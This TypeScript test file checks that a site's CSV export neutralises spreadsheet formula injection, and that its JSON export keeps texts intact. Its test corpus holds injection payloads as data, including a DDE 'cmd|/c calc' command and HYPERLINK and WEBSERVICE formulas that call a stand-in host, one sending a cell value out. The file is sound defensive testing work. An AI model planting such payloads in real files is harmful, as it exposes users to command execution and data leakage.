import fc from "fast-check"
import { expect, test } from "vitest"
import { Table } from "../../site/src/downloads/table.ts"

const starters = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"]
const separators = [",", ";", "|", "\t"]

const bodies = [
  "1+1",
  "cmd|'/c calc'!A1",
  'HYPERLINK("http://x.invalid/"&A1,"go")',
  "SUM(1;2)",
  "2-3",
  'WEBSERVICE("http://x.invalid")',
  "IMPORTXML(A1,A2)",
]

const before = [
  ...["", " ", "   ", "\u00a0", "\u200b", "\ufeff", "\u202e", "\t", "\r", "\n", "\r\n", "\u0000"],
  ...[
    "x,",
    "x;",
    "x|",
    "x\t",
    'x"',
    'x",',
    'x";',
    "x\n",
    "x\r\n",
    "x; ",
    'x"; "',
    '"',
    '""',
    "x\u2028",
  ],
]

const corpus = starters.flatMap((starter) =>
  before.flatMap((prefix) => bodies.map((body) => prefix + starter + body)),
)

function filesOf(texts: readonly (string | string[])[]): { csv: string; json: string } {
  const table = new Table(["first", "text", "last"])
  for (const text of texts) table.add({ first: "a", text, last: "z" })
  const [csv = "", json = ""] = (["csv", "json"] as const).map((format) =>
    new TextDecoder("utf-8", { ignoreBOM: true }).decode(table.take(format)),
  )
  return { csv, json }
}

/** The cells of a file as a spreadsheet cuts it: with a separator, and with or without quotes. */
function cellsOf(csv: string, separator: string, quotes: boolean): string[] {
  const cells: string[] = []
  let cell = ""
  let quoted = false
  for (let at = 0; at < csv.length; at++) {
    const character = csv.charAt(at)
    if (quoted) {
      if (character !== '"') cell += character
      else if (csv.charAt(at + 1) === '"') cell += csv.charAt(++at)
      else quoted = false
    } else if (quotes && character === '"' && cell === "") quoted = true
    else if (character === separator || /[\r\n\u0085\u2028\u2029]/.test(character)) {
      cells.push(cell)
      cell = ""
    } else cell += character
  }
  return [...cells, cell]
}

/** What a spreadsheet looks at: what shows nothing, and a quote that it does not know, fall away. */
const looked = (cell: string) => cell.replace(/^[\s"\p{Cc}\p{Cf}]+/u, "")

const formulasIn = (csv: string): string[] =>
  separators.flatMap((separator) =>
    [true, false].flatMap((quotes) =>
      cellsOf(csv, separator, quotes).filter((cell) => starters.includes(looked(cell).charAt(0))),
    ),
  )

test(`none of ${corpus.length} texts starts a formula, however the file is cut`, () => {
  expect(corpus.length).toBeGreaterThan(2000)
  expect(formulasIn(filesOf(corpus).csv)).toEqual([])
  expect(formulasIn(filesOf(corpus.map((text) => [text, text])).csv)).toEqual([])
})

test("JSON keeps every text as it is", () => {
  const rows = JSON.parse(filesOf(corpus).json) as { text: string }[]
  expect(rows.map(({ text }) => text)).toEqual(corpus)
})

const pieces = fc.constantFrom(
  ...starters,
  ...separators,
  ...[" ", "\u00a0", "\u200b", "\ufeff", "\r", "\n", '"', "'", "a", "1", "(", "\\", "[", "\u2028"],
)

test("no text of such pieces starts a formula, and each comes back but for apostrophes", () => {
  const text = fc.array(pieces, { maxLength: 12 }).map((parts) => parts.join(""))
  fc.assert(
    fc.property(fc.array(text, { minLength: 1, maxLength: 4 }), (texts) => {
      const { csv, json } = filesOf(texts)
      expect(formulasIn(csv)).toEqual([])
      expect((JSON.parse(json) as { text: string }[]).map((row) => row.text)).toEqual(texts)
      const plain = (all: string) => all.replaceAll("'", "")
      for (const one of texts) expect(plain(csv)).toContain(plain(one).replaceAll('"', '""'))
    }),
    { numRuns: 2000 },
  )
})

test("what starts no formula is left alone", () => {
  const texts = ["e-mail sorter", "2025-07-14", "C++", "a = b", "ada@town.invalid", "it's", "5 - 3"]
  expect(filesOf(texts).csv).toBe(
    `first,text,last\r\n${texts.map((text) => `a,${text},z\r\n`).join("")}`,
  )
})

test("a long text of nothing but separators and spaces takes no longer for being hostile", () => {
  const started = performance.now()
  for (const hostile of ["\t ".repeat(50_000), `;${" ".repeat(100_000)}`, '"\u200b'.repeat(50_000)])
    filesOf([hostile])
  expect(performance.now() - started).toBeLessThan(2000)
})
